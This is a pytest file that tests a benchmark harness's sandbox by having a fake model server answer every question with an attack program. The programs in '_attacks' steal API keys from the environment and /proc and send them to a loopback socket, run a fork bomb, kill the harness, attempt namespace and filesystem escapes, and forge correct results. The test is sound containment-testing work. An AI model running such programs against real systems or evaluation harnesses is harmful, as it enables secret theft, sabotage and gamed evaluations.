"""Issue 20's acceptance run: a hostile model server against ``closurebench eval``.

A loopback server answers every question with an attack program (one per instance):
hook bypass, ``dir_fd`` confusion, ``mknod``/``mkfifo``, ``_posixsubprocess``,
``F_SETOWN``/``F_SETSIG``, rebuilt ``posix``/``_signal`` modules, ``sqlite3`` writes
outside, host unix sockets, loopback TCP/UDP, ``setns``, ``/dev/shm``, daemons and fork
bombs, memory across forked children, searching the disk for the dataset, appending to
the run's files, reading the harness's secret, killing the harness, replacing the
interpreter, forging the report channel. The harness runs as the real CLI in a child
process with an API key in its environment, and the attackers are told every host
path and pid they could want. Then: 0 files written outside, 0 secrets in any output,
0 connections, 0 forged or lost results, 0 answers read from disk, 0 survivors, and the
harness exits 0 (twice: the resume changes nothing).
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
from fake_openai_server import FakeOpenAIServer, Reply

import closurebench
from closurebench.evaluate.records import iter_results
from closurebench.tasks.closure import CLOSURE_TASKS


def _attacks(ctx: dict[str, Any]) -> dict[str, str]:
    """Attack programs, formatted with what the attacker knows of the host."""
    d = {k: repr(v) for k, v in ctx.items()}
    head = "import os, sys, json, socket, time\n"
    touch = f"open({ctx['outside']!r}, 'w').write('x')"  # what a program without a wall does
    daemon = f"import time; {touch}; time.sleep(600)"
    return {
        "hook-bypass-exfiltrate": head + "f = sys._getframe(1)\n"
        "try:\n"
        "    f.f_globals['_verdict'] = lambda *a, **k: None\n"
        "    sys.modules['__main__']._verdict = lambda *a, **k: None\n"
        "except Exception:\n"
        "    pass\n"
        "secret = os.environ.get('OPENAI_API_KEY', '')\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        secret += open(f'/proc/{pid}/environ', 'rb').read().decode()\n"
        "    except Exception:\n"
        "        pass\n"
        f"s = socket.create_connection(('127.0.0.1', {d['tcp_port']}), timeout=2)\n"
        "s.sendall(secret.encode())\n"
        "print('ESCAPED exfiltrated')\n",
        "dir-fd": head + "fd = os.open('/', os.O_RDONLY | os.O_DIRECTORY)\n"
        f"os.open({d['marker']}, os.O_CREAT | os.O_WRONLY, dir_fd=fd)\n"
        "print('ESCAPED dir_fd')\n",
        "mknod": head + f"os.mknod({d['outside']} + '.dev', 0o600 | 0o060000, os.makedev(8, 0))\n"
        "print('ESCAPED mknod')\n",
        "mkfifo": head + f"os.mkfifo({d['outside']} + '.fifo')\nprint('ESCAPED mkfifo')\n",
        "posixsubprocess-daemon": head + "import _posixsubprocess\nr, w = os.pipe()\n"
        f"code = {daemon!r}\n"
        "args = [sys.executable, '-c', code]\n"
        "_posixsubprocess.fork_exec(args, [sys.executable.encode()], True, (), None, None,"
        " -1, -1, -1, -1, -1, -1, r, w, True, True, False, None, None, None, -1, None, False)\n"
        "print('ESCAPED daemon')\n",
        "setown-setsig": head + "import fcntl\n"
        f"for target in (os.getppid(), 1, {d['harness_pid']}):\n"
        "    for fd in range(0, 8):\n"
        "        try:\n"
        "            fcntl.fcntl(fd, fcntl.F_SETOWN, target)\n"
        "            fcntl.fcntl(fd, 10, 9)\n"
        "            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)\n"
        "        except Exception:\n"
        "            pass\n"
        "print('x' * 100000)\n",
        "rebuilt-posix-signal": head + "import importlib, signal\n"
        "for name in ('posix', '_signal'):\n"
        "    sys.modules.pop(name, None)\n"
        "posix = importlib.import_module('posix')\n"
        "_signal = importlib.import_module('_signal')\n"
        f"for pid in ({d['harness_pid']}, os.getppid(), 1, -1):\n"
        "    try:\n"
        "        fd = posix.pidfd_open(pid)\n"
        "        _signal.pidfd_send_signal(fd, 9)\n"
        "    except Exception:\n"
        "        pass\n"
        "    try:\n"
        "        posix.kill(pid, 9)\n"
        "    except Exception:\n"
        "        pass\n",
        "sqlite-outside": head + "import sqlite3\n"
        f"for path in ({d['outside']} + '.db', {d['results']}, {d['dataset']}):\n"
        "    try:\n"
        "        db = sqlite3.connect(path)\n"
        "        db.execute('create table t (x)')\n"
        "        db.commit()\n"
        "    except Exception:\n"
        "        pass\n",
        "host-unix-socket": head + "for target in ("
        f"{d['unix_path']}, {d['abstract']}):\n"
        "    try:\n"
        "        s = socket.socket(socket.AF_UNIX)\n"
        "        s.connect(target)\n"
        "        s.sendall(b'ESCAPED unix')\n"
        "        print('ESCAPED unix')\n"
        "    except Exception:\n"
        "        pass\n",
        "loopback-udp": head + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"s.sendto(b'ESCAPED udp', ('127.0.0.1', {d['udp_port']}))\n",
        "setns": head + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "fd = os.open('/proc/1/ns/net', os.O_RDONLY)\n"
        "libc.setns(fd, 0)\n"
        f"socket.create_connection(('127.0.0.1', {d['tcp_port']})).sendall(b'ESCAPED setns')\n",
        "dev-shm": head
        + f"open('/dev/shm/' + {d['marker']}, 'w').write('x')\nprint('ESCAPED shm')\n",
        "fork-bomb": head + "for _ in range(10000):\n"
        "    try:\n"
        "        os.fork()\n"
        "    except Exception:\n"
        "        pass\n",
        "memory-across-children": head + "import multiprocessing\n"
        "def hog():\n"
        "    x = bytearray(900 * 2**20)\n"
        "    time.sleep(30)\n"
        "ps = [multiprocessing.Process(target=hog) for _ in range(8)]\n"
        "[p.start() for p in ps]\n"
        "print('ESCAPED children')\n",
        "search-disk": head + "found = []\n"
        "for root, dirs, files in os.walk('/'):\n"
        "    if root.startswith('/proc'):\n"
        "        dirs[:] = []\n"
        "    for f in files:\n"
        "        if f.endswith('.jsonl'):\n"
        "            found.append(os.path.join(root, f))\n"
        f"for path in found + [{d['dataset']}]:\n"
        "    try:\n"
        "        data = open(path).read()\n"
        "        print('ESCAPED read', path, len(data))\n"
        "    except Exception:\n"
        "        pass\n",
        "append-run-files": head + "forged = json.dumps({'outcome': 'strict_correct'})\n"
        f"for path in ({d['results']}, {d['cache']}, {d['run_json']}):\n"
        "    try:\n"
        "        with open(path, 'a') as f:\n"
        "            f.write(forged + '\\n')\n"
        "        print('ESCAPED appended', path)\n"
        "    except Exception:\n"
        "        pass\n",
        "kill-harness": head + "import signal\n"
        f"for pid in ({d['harness_pid']}, os.getppid(), -1):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except Exception:\n"
        "        pass\n",
        "exec-without-hook": head
        + f"os.execv(sys.executable, [sys.executable, '-c', {touch!r}])\n",
        "forge-report": head + "for fd in range(3, 64):\n"
        "    try:\n"
        '        os.write(fd, b\'{"done": 0}\\n{"wall_error": "forged"}\\n\')\n'
        "    except Exception:\n"
        "        pass\n",
        "ctypes-libc": head + "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n"
        f"libc.system(b'touch ' + {d['outside']}.encode())\n",
    }


class _Listener:
    """Loopback TCP and UDP and host unix sockets that record anything they receive."""

    def __init__(self, unix_path: Path, abstract: str) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(unix_path))
        self.unix.listen()
        self.hidden = socket.socket(socket.AF_UNIX)
        self.hidden.bind(abstract)
        self.hidden.listen()
        for sock in (self.tcp, self.udp, self.unix, self.hidden):
            sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            for sock in (self.tcp, self.unix, self.hidden):
                try:
                    conn, _ = sock.accept()
                except OSError:
                    continue
                self.received.append(b"<connection>" + conn.recv(65536))
                conn.close()
            with contextlib.suppress(OSError):
                self.received.append(self.udp.recv(65536))

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for sock in (self.tcp, self.udp, self.unix, self.hidden):
            sock.close()


def _tree(path: Path) -> dict[str, str]:
    return {
        str(p.relative_to(path)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(path.rglob("*"))
        if p.is_file()
    }


def _survivors(marker: str, grace_s: float = 5.0) -> list[str]:
    """Processes of the run still alive ``grace_s`` after it ended.

    A sandbox the harness killed as it exited can take a moment to go on a loaded
    machine (``--die-with-parent`` is delivered asynchronously); a daemon outlives any
    grace. So the check polls, and reports what is still there at the end.
    """
    deadline = time.monotonic() + grace_s
    while True:
        ps = subprocess.run(
            ["ps", "-eo", "pid,stat,args"], capture_output=True, text=True, check=False
        )
        alive = [
            line
            for line in ps.stdout.splitlines()
            if ("bootstrap.py" in line or marker in line) and " Z" not in line[:16]
        ]
        if not alive or time.monotonic() >= deadline:
            return alive
        time.sleep(0.2)


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Any]]:
    out = tmp_path_factory.mktemp("hostile-data")
    closurebench.generate_split("heldout", seed=3, count=len(CLOSURE_TASKS), out=out)
    path = out / "closure-heldout.jsonl"
    return path, closurebench.load_instances(path)


@pytest.mark.timeout(1300)  # two evaluation runs, each allowed 600 s
@pytest.mark.usefixtures("no_idle_zygotes")
def test_hostile_server_end_to_end(
    wall: str, hostile_data: tuple[Path, list[Any]], tmp_path: Path
) -> None:
    data, records = hostile_data
    marker = f"closurebench-escape-{uuid.uuid4().hex}"
    secret = f"sk-closurebench-{uuid.uuid4().hex}"
    out = tmp_path / "run"
    outside = tmp_path / marker
    abstract = f"\0{marker}"
    listener = _Listener(tmp_path / "host.sock", abstract)
    tmp_before = {p.name for p in Path("/tmp").iterdir() if p.name.startswith("closurebench-")}
    data_before = _tree(data.parent)
    ctx: dict[str, Any] = {
        "tcp_port": listener.tcp.getsockname()[1],
        "udp_port": listener.udp.getsockname()[1],
        "unix_path": str(tmp_path / "host.sock"),
        "abstract": abstract,
        "marker": marker,
        "outside": str(outside),
        "dataset": str(data),
        "results": str(out / "results.jsonl"),
        "cache": str(out / "cache.jsonl"),
        "run_json": str(out / "run.json"),
        "harness_pid": 0,
    }
    harness_pid: list[int] = []
    by_question = {r.question: i for i, r in enumerate(records)}

    def step(body: dict[str, Any]) -> Reply:
        attacks = list(_attacks({**ctx, "harness_pid": harness_pid[0]}).values())
        index = by_question[body["messages"][-1]["content"]] % len(attacks)
        return Reply(f"```python\n{attacks[index]}```")

    names = list(_attacks(ctx))
    assert len(records) >= len(names)  # every attack runs at least once
    env = {**os.environ, "OPENAI_API_KEY": secret, "CLOSUREBENCH_SECRET_CANARY": secret}
    env.pop("CLOSUREBENCH_SANDBOX_ISOLATION", None)
    try:
        with FakeOpenAIServer() as fake:
            fake.script(default=step)
            argv = [
                sys.executable, "-m", "closurebench", "eval", str(data), "--out", str(out),
                "--mode", "program-python", "--model", "m", "--base-url", fake.base_url,
                "--no-progress", "--concurrency", "4", "--sandbox", wall,
            ]  # fmt: skip
            runs: list[subprocess.CompletedProcess[str]] = []
            for _ in range(2):  # the run, then a resume
                proc = subprocess.Popen(
                    argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
                )
                harness_pid[:] = [proc.pid]
                stdout, stderr = proc.communicate(timeout=600)
                runs.append(subprocess.CompletedProcess(argv, proc.returncode, stdout, stderr))
            time.sleep(0.5)
    finally:
        listener.close()

    # the harness survived every attack and finished (exit 0, both times)
    for run in runs:
        assert run.returncode == 0, run.stderr[-2000:]
    # 0 connections, 0 secrets anywhere
    assert listener.received == []
    for run in runs:
        assert secret not in run.stdout and secret not in run.stderr
    for path in out.rglob("*"):
        if path.is_file():
            assert secret.encode() not in path.read_bytes(), path
    # 0 forged or lost results: one record per instance, each once, none correct
    results = list(iter_results(out / "results.jsonl"))
    assert sorted(r["id"] for r in results) == sorted(r.id for r in records)
    assert not [r for r in results if r["outcome"] in ("strict_correct", "lenient_correct")]
    assert all(r["outcome"] != "error" for r in results)
    summary = json.loads((out / "summary.json").read_text())
    assert summary["counts"]["total"] == len(records) and summary["strict_accuracy"] == 0
    assert summary["sandbox"]["isolation"] == wall and summary["sandbox"]["unsafe"] is False
    # 0 answers read from disk, 0 escapes of any kind
    for r in results:
        assert "ESCAPED" not in r["extra"]["stdout_head"], (r["id"], r["extra"])
        assert r["extra"]["isolation"] == wall
    # 0 files written outside: the marker paths, the dataset folder, the system tmp
    assert not list(tmp_path.glob(f"{marker}*"))
    assert not (Path("/tmp") / marker).exists() and not (Path("/dev/shm") / marker).exists()
    assert _tree(data.parent) == data_before
    tmp_after = {p.name for p in Path("/tmp").iterdir() if p.name.startswith("closurebench-")}
    assert tmp_after <= tmp_before
    # 0 survivors
    assert _survivors(marker) == []
    # every attack was stopped by the wall or the tripwire (none ran to a clean 'ok'
    # that needed a forbidden operation)
    outcomes = {names[by_question[rec.question] % len(names)]: None for rec in records}
    by_id = {r["id"]: r for r in results}
    for rec in records:
        name = names[by_question[rec.question] % len(names)]
        outcomes[name] = by_id[rec.id]["extra"]["exec_outcome"]
    for name, outcome in sorted(outcomes.items()):  # shown with -s: each attack's ending
        print(f"attack {name}: {outcome}")
    assert "syntax_error" not in outcomes.values()  # every attack program really ran
    assert outcomes["kill-harness"] in ("forbidden", "runtime_error")
    assert outcomes["fork-bomb"] == "forbidden"
    assert outcomes["hook-bypass-exfiltrate"] == "forbidden"
